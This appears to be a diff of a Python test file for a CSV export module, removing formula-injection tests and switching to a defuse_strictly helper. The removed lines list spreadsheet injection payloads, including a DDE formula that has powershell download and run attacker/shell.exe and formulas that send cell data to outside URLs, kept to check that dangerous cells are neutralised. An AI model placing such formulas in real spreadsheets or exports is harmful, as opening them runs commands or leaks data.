@@ -1,4 +1,4 @@
-"""Cells that a spreadsheet would run, and files that appear all at once."""
+"""Rows for people, and files that appear all at once."""
 
 import csv
 import io
@@ -9,58 +9,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from loyalty.export_files import (
-    ExportFailed,
-    csv_cell,
-    formula_safe,
-    publication,
-    spreadsheet_header,
-    spreadsheet_rows,
-)
-
-# After the formula-injection lists that are passed around: each is run, or sends data away, when it is opened.
-PAYLOADS = [
-    "=1+1", "==1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
-    '=HYPERLINK("http://example.com?x="&A1,"click")', "=IMPORTXML(CONCAT(\"http://example.com?v=\", A1), \"//a\")",
-    "=IMPORTDATA(\"http://example.com\")", '=WEBSERVICE("http://example.com/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")",
-    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=2+5+cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1",
-    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
-    " =1+1", "  \t=1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", '"=1+1"', "'=1+1", "''=1+1", "' =1+1",
-    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "=1+1;x", "=1+1,x", "=1+1\tx", "\x00=1+1", "-5", "+17705550101",
-    "=", "+", "-", "@", "\t", "\r", "＝",
-]  # fmt: skip
-HARMLESS = [
-    "",
-    " ",
-    "Ada",
-    "a=b",
-    "1-2",
-    "O'Neil",
-    "'quoted'",
-    '"Ada" Byron',
-    "ada@example.com",
-    "5",
-    "é",
-    " Ada",
-    "（1）",
-]
-
-
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_what_a_spreadsheet_would_run_gets_an_apostrophe(payload: str) -> None:
-    assert formula_safe(payload) == f"'{payload}"
-
-
-@pytest.mark.parametrize("text", HARMLESS)
-def test_what_it_would_not_run_stays_as_it_is(text: str) -> None:
-    assert formula_safe(text) == text
-
-
-@given(st.text(max_size=20))
-def test_one_apostrophe_at_most_so_that_taking_it_away_restores_the_text(text: str) -> None:
-    safe = formula_safe(text)
-    assert safe in (text, f"'{text}")
-    assert safe[:1] not in tuple("=+-@\t\r\n\0＝＋－＠")
+from loyalty.export_files import ExportFailed, csv_cell, publication, spreadsheet_header, spreadsheet_rows
+from loyalty.spreadsheets import defuse_strictly
 
 
 @given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=12), min_size=3, max_size=3)))
@@ -68,7 +18,7 @@ def test_rows_come_back_as_they_were(rows: list[list[str]]) -> None:
     header = spreadsheet_header(["a", "b", "c"])
     content = header + b"".join(line for lines in spreadsheet_rows(rows) for line in lines)
     read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
-    assert read == [["a", "b", "c"], *([formula_safe(cell) for cell in row] for row in rows)]
+    assert read == [["a", "b", "c"], *([defuse_strictly(cell) for cell in row] for row in rows)]
 
 
 def test_other_values_are_written_as_people_read_them() -> None:
